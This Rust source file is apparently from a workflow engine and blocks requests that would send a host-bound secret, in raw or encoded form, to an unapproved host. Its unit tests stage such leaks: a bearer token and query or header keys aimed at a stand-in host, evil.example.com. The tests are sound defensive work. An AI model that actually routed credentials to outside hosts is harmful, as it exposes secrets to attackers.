//! Secret host bindings: a secret declared with `hosts:` is only ever sent to those hosts,
//! whatever the URL template renders to and wherever a redirect points.

use crate::request::PreparedRequest;
use crate::url::{encodings, host_of};
use flowstep_engine::{BoundSecret, StepError};
use reqwest::Url;

/// The forms a value takes on the wire: as is (headers), form- or component-encoded (query,
/// path, form body), JSON-escaped (JSON body).
fn wire_forms(value: &str) -> Vec<String> {
    let mut forms = vec![value.to_owned()];
    let form: String = form_urlencoded::byte_serialize(value.as_bytes()).collect();
    let [component, path] = encodings(value);
    let json = serde_json::to_string(value).unwrap_or_default();
    let json = json
        .strip_prefix('"')
        .and_then(|j| j.strip_suffix('"'))
        .unwrap_or_default()
        .to_owned();
    for f in [form, component, path, json] {
        if !forms.contains(&f) {
            forms.push(f);
        }
    }
    forms
}

/// Whether `value` appears anywhere in what `req` sends to `url`.
fn carries(req: &PreparedRequest, url: &Url, value: &str) -> bool {
    if value.is_empty() {
        return false;
    }
    wire_forms(value).iter().any(|f| {
        url.as_str().contains(f.as_str())
            || req.headers.0.iter().any(|(_, v)| v.contains(f.as_str()))
            || req.body.as_deref().is_some_and(|b| b.contains(f.as_str()))
    })
}

/// The first bound secret that `req` would carry to a host outside its `hosts`.
pub fn misplaced<'s>(
    req: &PreparedRequest,
    url: &Url,
    secrets: &'s [BoundSecret],
) -> Option<&'s BoundSecret> {
    let host = host_of(url);
    secrets.iter().find(|s| {
        !s.hosts.is_empty()
            && !s.hosts.iter().any(|h| h.eq_ignore_ascii_case(&host))
            && carries(req, url, s.value.expose())
    })
}

/// Fails before sending when a bound secret would go to the wrong host. `req.url` is the URL
/// as written in the flow (before routing), so a sandbox route changes nothing here.
pub fn check(req: &PreparedRequest, secrets: &[BoundSecret]) -> Result<(), StepError> {
    match misplaced(req, &req.url, secrets) {
        None => Ok(()),
        Some(s) => Err(StepError::invalid(format!(
            "secret `{}` may only be sent to {}; this request goes to {}",
            s.name,
            s.hosts.join(", "),
            host_of(&req.url)
        ))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::request::tests::{flow, prepare_with};
    use flowstep_engine::{ErrorKind, Redactor, Secret};
    use serde_json::json;

    fn bound(value: &str) -> Vec<BoundSecret> {
        vec![BoundSecret {
            name: "KEY".into(),
            value: Secret::new(value),
            hosts: vec!["api.stripe.com".into()],
        }]
    }

    #[test]
    fn a_bound_secret_may_not_go_to_another_host() {
        let f = flow(
            "    method: POST\n    url: https://<<v>>/v1/x\n    auth: { type: bearer, token: \"<<secrets.KEY>>\" }\n",
        );
        let vars = |host: &str| json!({"v": host, "n": 1, "secrets": {"KEY": "sk_test_abc"}});
        let req = prepare_with(&f, vars("api.stripe.com"), &Redactor::new()).unwrap();
        assert!(check(&req, &bound("sk_test_abc")).is_ok());
        let req = prepare_with(&f, vars("evil.example.com"), &Redactor::new()).unwrap();
        let e = check(&req, &bound("sk_test_abc")).unwrap_err();
        assert_eq!(e.kind, ErrorKind::Invalid);
        assert_eq!(
            e.message,
            "secret `KEY` may only be sent to api.stripe.com; this request goes to evil.example.com"
        );
        // Unbound secrets go anywhere.
        let mut any = bound("sk_test_abc");
        any[0].hosts.clear();
        assert!(check(&req, &any).is_ok());
    }

    #[test]
    fn encoded_forms_are_found_in_query_and_headers() {
        let f = flow(
            "    url: https://evil.example.com/x\n    auth: { type: query, name: k, value: \"<<secrets.KEY>>\" }\n",
        );
        let req = prepare_with(
            &f,
            json!({"n": 1, "secrets": {"KEY": "a b&c"}}),
            &Redactor::new(),
        )
        .unwrap();
        assert!(check(&req, &bound("a b&c")).is_err());
        let f = flow(
            "    url: https://evil.example.com/x\n    headers:\n      X-Key: \"pre <<secrets.KEY>>\"\n",
        );
        let req = prepare_with(
            &f,
            json!({"n": 1, "secrets": {"KEY": "abc"}}),
            &Redactor::new(),
        )
        .unwrap();
        assert!(check(&req, &bound("abc")).is_err());
    }
}
